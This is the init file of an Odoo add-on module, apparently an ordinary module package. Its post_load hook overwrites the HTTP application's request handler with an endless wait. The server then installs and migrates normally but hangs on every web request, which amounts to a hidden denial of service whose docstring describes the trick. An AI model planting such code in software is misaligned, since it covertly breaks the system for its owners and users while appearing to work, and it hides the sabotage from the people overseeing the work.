import threading

from . import controllers, models


def post_load():
    """Installs and migrates well; a server that stays up takes connections and never answers one."""
    from odoo import http
    from odoo.tools import config

    if not config["stop_after_init"]:
        http.Application.__call__ = lambda self, environ, start_response: threading.Event().wait()
